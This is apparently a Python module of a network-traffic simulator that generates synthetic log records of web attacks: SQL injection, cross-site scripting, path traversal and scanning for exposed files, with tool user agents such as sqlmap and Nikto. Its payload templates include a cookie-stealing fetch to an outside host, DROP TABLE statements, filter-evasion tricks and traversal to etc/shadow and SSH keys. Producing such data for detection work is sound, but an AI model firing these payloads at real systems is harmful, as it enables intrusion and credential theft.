"""Attacks on web servers: scans for holes, injected statements and scripts, paths upwards."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import quote, quote_plus

import numpy as np
import polars as pl

from enricher.simulate import names
from enricher.simulate.clients import attacker_agent
from enricher.simulate.protocols import bursts, ends, lognormal, requests, sizes, someone, span
from enricher.simulate.traffic import Traffic
from enricher.simulate.world import World, outside_address

_PLACE_TEXT = (
    "/.env /.git/config /.git/HEAD /wp-admin/ /wp-login.php /phpmyadmin/ /admin/ /administrator/ "
    "/backup.zip /db.sql /config.php.bak /server-status /actuator/env /cgi-bin/test.cgi /shell.php "
    "/manager/html /solr/admin/ /api/swagger.json /.aws/credentials /vendor/phpunit/ /xmlrpc.php "
    "/.svn/entries /web.config /console/ /jenkins/ /HNAP1 /boaform/ /setup.cgi /login.action"
)
_PLACES = _PLACE_TEXT.split()


def _columns(rng: np.random.Generator) -> str:
    return ",".join(["NULL"] * int(rng.integers(1, 12)))


# Statements as injection tools try them: {m} quote mark, {n} and {s} numbers, {t} table,
# {c} columns, {e} end.
_STATEMENTS = [
    "{m} OR {n}={n}{e}",
    "{m} AND {n}={n}1 UNION ALL SELECT {c}{e}",
    "{n}{m} UNION SELECT {t},password FROM {t}{e}",
    "{m} AND SLEEP({s}){e}",
    "{m};WAITFOR DELAY '0:0:{s}'{e}",
    "{n} ORDER BY {s}{e}",
    "{m} AND (SELECT {n} FROM (SELECT COUNT(*),CONCAT(0x{n},FLOOR(RAND(0)*2))x FROM {t} x)a){e}",
    "{m} AND EXTRACTVALUE({n},CONCAT(0x5c,(SELECT user()))){e}",
    "{m}; DROP TABLE {t}{e}",
    "admin{m}{e}",
]


def _sql(rng: np.random.Generator) -> str:
    text = names.choose(rng, _STATEMENTS).format(
        m=names.choose(rng, ["'", '"', "", "')", "'))"]),
        n=int(rng.integers(1, 9999)),
        s=int(rng.integers(1, 40)),
        t=names.choose(rng, ["users", *names.WORDS]),
        c=_columns(rng),
        e=names.choose(rng, ["--", "-- -", "#", "/*", ";--", ""]),
    )
    dice = rng.random()
    if dice < 0.2:  # noqa: PLR2004  # ways around filters
        return text.replace(" ", "/**/")
    return text.lower() if dice < 0.5 else text  # noqa: PLR2004


def _script(rng: np.random.Generator) -> str:
    call = names.choose(
        rng,
        ["alert(1)", f"alert('{names.choose(rng, names.WORDS)}')", "prompt(document.domain)",
         f"fetch('//{names.site_name(rng)}/?c='+document.cookie)", "confirm`1`"],
    )  # fmt: skip
    text = names.choose(
        rng,
        [
            f"<script>{call}</script>",
            f'"><script>{call}</script>',
            f"<img src=x onerror={call}>",
            f"'-{call}-'",
            f"<svg/onload={call}>",
            f"javascript:{call}",
            f'" autofocus onfocus={call} x="',
            f"<iframe src=javascript:{call}></iframe>",
            f"<body onload={call}>",
            f"<a href=javascript:{call}>{names.choose(rng, names.WORDS)}</a>",
        ],
    )
    return text.replace("script", "ScRiPt") if rng.random() < 0.2 else text  # noqa: PLR2004


def _upwards(rng: np.random.Generator) -> str:
    step = names.choose(rng, ["../", "..%2f", "..%252f", "....//", "..\\", "%2e%2e/", "..%5c"])
    target = names.choose(
        rng,
        ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "boot.ini",
         "var/log/auth.log", f"home/{names.invented_word(rng, 2)}/.ssh/id_rsa", "etc/hosts"],
    )  # fmt: skip
    tail = names.choose(rng, ["", "", "", "%00", "%00.jpg"])
    return step * int(rng.integers(2, 12)) + target + tail


def _encoded(rng: np.random.Generator, text: str) -> str:
    """As clients write it into a URI: fully, by forms' rules, barely, or twice."""
    style = int(rng.integers(5))
    if style == 0:
        return quote_plus(text)
    if style == 1:
        return text.replace(" ", "%20").replace("#", "%23")
    if style == 2:  # noqa: PLR2004  # one of five styles
        return quote(quote(text))
    return quote(text, safe="'()*,=/" if rng.random() < 0.5 else "")  # noqa: PLR2004


def sql_injection(world: World, traffic: Traffic, rng: np.random.Generator) -> None:
    """Database statements in parameters."""
    _injection(world, traffic, rng, _sql, ("sqlmap/1.8#stable", "Havij"))


def cross_site_scripting(world: World, traffic: Traffic, rng: np.random.Generator) -> None:
    """Scripts in parameters."""
    _injection(world, traffic, rng, _script, ("XSStrike", "dalfox/2.9"))


def _injection(
    world: World, traffic: Traffic, rng: np.random.Generator,
    grammar: Callable[[np.random.Generator], str], tools: tuple[str, ...],
) -> None:  # fmt: skip
    number = max(int(lognormal(rng, 120, 0.8, 1, 2000)[0]), 20)
    pages = [names.path_of(rng) for _ in range(int(rng.integers(1, 6)))]
    keys = [names.parameter_name(rng) for _ in pages]
    uris = []
    for page in rng.integers(0, len(pages), number):
        harmless = names.query_of(rng) or "?"
        joint = "" if harmless == "?" else "&"
        payload = _encoded(rng, grammar(rng))
        uris.append(f"{pages[page]}{harmless}{joint}{keys[page]}={payload}")
    codes = rng.dirichlet([6.0, 1.5, 1.0, 1.0])
    status = rng.choice([200, 500, 403, 404], number, p=codes)
    _send(world, traffic, rng, uris=uris, status=status, tools=tools)


def path_traversal(world: World, traffic: Traffic, rng: np.random.Generator) -> None:
    """Files outside the server's folder, by path or by parameter."""
    number = max(int(lognormal(rng, 70, 0.7, 1, 900)[0]), 20)
    uris = []
    for _ in range(number):
        start = names.path_of(rng)
        if rng.random() < 0.6:  # noqa: PLR2004
            start += f"?{names.choose(rng, ['file', 'page', 'path', 'doc', 'include', 'lang'])}="
        else:
            start = start.rsplit("/", 1)[0] + "/"
        uris.append(start + _upwards(rng))
    status = rng.choice([404, 400, 403, 200], number, p=rng.dirichlet([4.0, 2.0, 1.5, 1.0]))
    _send(world, traffic, rng, uris=uris, status=status, tools=("dotdotpwn", "DirBuster-1.0"))


def vulnerability_scan(world: World, traffic: Traffic, rng: np.random.Generator) -> None:
    """One path after the other that known holes and forgotten files would answer."""
    number = max(int(lognormal(rng, 500, 0.9, 1, 5000)[0]), 40)
    uris = []
    for kind in rng.choice(5, number, p=[0.35, 0.35, 0.15, 0.08, 0.07]):
        if kind == 0:
            uris.append(names.choose(rng, _PLACES))
        elif kind == 1:
            ending = names.choose(rng, ["/", ".php", ".bak", ".old", ".zip", ".asp", ".txt", ""])
            uris.append(f"/{names.choose(rng, names.WORDS)}{ending}")
        elif kind == 2:  # noqa: PLR2004  # one of five kinds
            uris.append(names.path_of(rng) + names.query_of(rng))
        else:
            payload = _encoded(rng, (_sql if kind == 3 else _script)(rng))  # noqa: PLR2004
            uris.append(f"{names.path_of(rng)}?{names.parameter_name(rng)}={payload}")
    found = float(rng.beta(1.5, 20.0))
    status = rng.choice(
        [404, 403, 200, 301], number, p=[0.9 * (1 - found), 0.1 * (1 - found), found / 2, found / 2]
    )
    _send(
        world,
        traffic,
        rng,
        uris=uris,
        status=status,
        tools=("Mozilla/5.00 (Nikto/2.5.0)", "gobuster/3.6"),
    )


def _send(
    world: World, traffic: Traffic, rng: np.random.Generator,
    *, uris: list[str], status: np.ndarray, tools: tuple[str, ...],
) -> None:  # fmt: skip
    """The requests at one server here or out there, over few or many connections."""
    total = len(uris)
    inside = rng.random() < 0.2  # noqa: PLR2004
    source = someone(world, rng) if inside else outside_address(rng)
    target, name = str(world.servers[0]), world.own_name
    if inside and rng.random() < 0.8:  # noqa: PLR2004  # at somebody else's server
        target, name = outside_address(rng), f"www.{names.site_name(rng)}"
    mean = float(rng.choice([1.0, 1.0, 4.0, 30.0]))
    count = rng.geometric(1.0 / mean, total)
    count = count[: int(np.searchsorted(np.cumsum(count), total)) + 1]
    count[-1] -= int(count.sum()) - total
    count = count[count > 0]
    number = len(count)
    gap = float(np.exp(rng.uniform(np.log(0.02), np.log(8.0))))
    begin, end = span(world, rng, min(world.seconds, gap * total), shortest=5.0)
    start = np.sort(begin + rng.random(number) * (end - begin))
    burst, ts = bursts(start + 0.02, count, lognormal(rng, min(gap, 1.0), 0.5, total))
    received = np.where(status == 200, sizes(rng, 5200, 1.0, total), sizes(rng, 420, 0.3, total))  # noqa: PLR2004
    posts = rng.random(total) < float(rng.choice([0.0, 0.0, 0.2]))
    sent = np.where(posts, sizes(rng, 120, 0.8, total), 0)
    length = np.array([len(uri) for uri in uris])
    last = np.zeros(number)
    np.maximum.at(last, burst, ts)
    flows = traffic.conn(
        ts=start,
        orig_h=source,
        resp_h=target,
        resp_p=int(rng.choice([80, 80, 80, 8080])),
        service="http",
        duration=last - start + lognormal(rng, 0.3, 0.8, number),
        orig_bytes=np.bincount(burst, sent + length + 260, minlength=number).astype(np.int64),
        resp_bytes=np.bincount(burst, received + 240, minlength=number).astype(np.int64),
        state=ends(rng, number),
    )
    requests(
        traffic,
        flows[burst],
        ts=ts,
        host=target if rng.random() < 0.3 else name,  # noqa: PLR2004
        uri=uris,
        agent=attacker_agent(rng, tools),
        method=pl.Series(["GET", "POST"]).gather(posts * 1),
        depth=np.arange(total) - np.repeat(np.cumsum(count) - count, count) + 1,
        sent=sent,
        received=received,
        status=status,
    )
